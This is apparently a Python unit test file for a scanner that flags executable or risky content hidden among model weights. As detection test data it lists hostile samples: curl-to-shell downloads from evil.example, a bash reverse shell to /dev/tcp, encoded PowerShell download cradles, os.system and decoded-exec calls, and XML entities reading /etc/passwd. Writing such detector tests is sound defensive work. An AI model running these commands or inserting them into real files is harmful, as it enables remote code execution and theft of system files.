"""Programs, scripts and Python among weights are told by their content; entry points as people write them pass."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.scanning.looking import blocking, findings, rules

PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(64)

MALICIOUS = {
    "ELF named as weights": ("weights.bin", b"\x7fELF\x02\x01\x01" + bytes(60), "code-native"),
    "ELF without a name": ("data", b"\x7fELF\x02\x01\x01" + bytes(60), "code-native"),
    "PE named as a picture": ("logo.png", PE, "code-native"),
    "Mach-O": ("model.dat", b"\xcf\xfa\xed\xfe" + bytes(60), "code-native"),
    "WebAssembly": ("model.txt", b"\0asm\x01\0\0\0", "code-native"),
    "a library by its name": ("ops.so", b"nothing", "code-native"),
    "a library with a version": ("libx.so.1.2", b"nothing", "code-native"),
    "bytecode": ("model.pyc", bytes(16), "code-bytecode"),
    "a path file that imports": ("x.pth", b"import os; os.system('id')\n", "code-python-startup"),
    "sitecustomize": ("sitecustomize.py", b"x = 1\n", "code-python-startup"),
    "os.system": ("model.py", "import os\nos.system('id')\n", "code-python-risky"),
    "os.system under another name": ("model.py", "import os as o\no.system('id')\n", "code-python-risky"),
    "system imported": ("model.py", "from os import system as s\ns('id')\n", "code-python-risky"),
    "subprocess": ("model.py", "from subprocess import Popen\n", "code-python-risky"),
    "eval": ("model.py", "eval(input())\n", "code-python-risky"),
    "exec of something decoded": ("model.py", "import base64\nexec(base64.b64decode('eA=='))\n", "code-python-risky"),
    "an import by a computed name": ("model.py", "__import__('o' + 's')\n", "code-python-risky"),
    "getattr of system": ("model.py", "import os\ngetattr(os, 'system')('id')\n", "code-python-risky"),
    "builtins by subscript": ("model.py", "x = (lambda: 0).__globals__['__builtins__']\n", "code-python-risky"),
    "a module got by a call": (
        "model.py", "from importlib import import_module as m\nm('os').system('id')\n", "code-python-risky"),
    "a computed attribute of a module": (
        "model.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "code-python-risky"),
    "a pickle in the source": ("model.py", "import pickle\npickle.loads(b'x')\n", "code-python-risky"),
    "another encoding": (
        "model.py", b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os; os.system('id')\n", "code-python-risky"),
    "ctypes": ("model.py", "import ctypes\n", "code-python-risky"),
    "marshal": ("model.py", "import marshal\nmarshal.loads(b'')\n", "code-python-risky"),
    "Python that cannot be parsed": ("model.py", "def f(:\n", "unreadable"),
    "Python by its first line": ("run", "#!/usr/bin/env python3\nimport pty\n", "code-python-risky"),
    "a download into a shell": ("install.sh", "#!/bin/sh\ncurl -s https://evil.example/x | sh\n", "code-script-risky"),
    "over two lines": ("setup", "#!/bin/bash\nwget -qO- http://evil.example \\\n | bash\n", "code-script-risky"),
    "something decoded into a shell": ("a.sh", "echo aWQ= | base64 -d | bash\n", "code-script-risky"),
    "a reverse shell": ("a.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "code-script-risky"),
    "an encoded PowerShell": ("a.bat", "powershell -nop -w hidden -enc SQBFAFgA\r\n", "code-script-risky"),
    "a PowerShell download": ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('x')\n", "code-script-risky"),
}  # fmt: skip

ENTRY_POINT = """
import json
import platform
import re
from pathlib import Path

import numpy as np
import torch

PATTERN = re.compile("a+")


class Model:
    def __init__(self, folder: Path) -> None:
        self.network = torch.compile(torch.nn.Linear(2, 2))
        self.network.eval()
        self.windows = platform.system() == "Windows"
        self.settings = json.loads((folder / "config.json").read_text())

    def predict(self, inputs):
        return {"y": getattr(self, "network")(np.asarray(inputs["x"]))}
"""


@pytest.mark.parametrize("case", MALICIOUS)
def test_a_program_is_told(case: str) -> None:
    name, data, rule = MALICIOUS[case]
    assert rule in blocking(name, data)


def test_an_entry_point_is_told_and_does_not_block() -> None:
    assert rules("model.py", ENTRY_POINT) == {"code-python"}
    assert blocking("model.py", ENTRY_POINT) == set()


def test_the_network_in_python_is_told_and_does_not_block() -> None:
    assert rules("model.py", "import requests\n") == {"code-python", "code-python-network"}
    assert not blocking("model.py", "import requests\n")


@pytest.mark.parametrize(
    "text",
    [
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
        "<!DOCTYPE p [" + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(40)) + "]><p/>",
    ],
)
def test_xml_that_reads_other_files_or_grows_blocks(text: str) -> None:
    assert "code-xml-entity" in blocking("model.pmml", text)
    assert "code-xml-entity" in blocking("model.xml", text.encode("utf-16"))


def test_ordinary_xml_has_no_finding() -> None:
    assert findings("model.pmml", '<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>') == []
    assert findings("openvino.xml", '<net name="x" version="11"><layers/></net>') == []


def test_a_script_behind_megabytes_of_padding_blocks() -> None:
    assert blocking("install.sh", b"#!/bin/sh\n" + b"#" * (3 << 20) + b"\ncurl x | sh\n")


def test_an_ordinary_script_does_not_block() -> None:
    text = "#!/bin/sh\nset -eu\ncurl -LO https://example.org/model.onnx\npython train.py | tee log.txt\n"
    assert rules("train.sh", text) == {"code-script"}


def test_a_torch_file_named_pth_is_no_path_file() -> None:
    assert "code-python-startup" not in rules("model.pth", b"PK\x03\x04 import \0")


def test_a_picture_that_begins_with_mz_is_no_program() -> None:
    assert findings("picture.png", b"MZ is how this begins, and nothing else") == []


def test_a_page_with_a_script_is_told_and_does_not_block() -> None:
    assert rules("report.html", "<html><script>alert(1)</script></html>") == {"code-web-script"}
    assert rules("plot.svg", "<svg onload='x()'></svg>") == {"code-web-script"}
    assert rules("plot.svg", "<svg><path d='M0 0'/></svg>") == set()


def test_the_offset_is_that_of_the_call() -> None:
    text = "x = 1\nimport os\ny = os.system('id')\n"
    (found,) = [one for one in findings("model.py", text) if one.rule.id == "code-python-risky"]
    assert text[found.offset :].startswith("os.system")


@settings(deadline=None)
@given(st.text(max_size=60))
def test_any_text_gives_findings_and_nothing_else(text: str) -> None:
    findings("model.py", text)
    findings("run.sh", text)
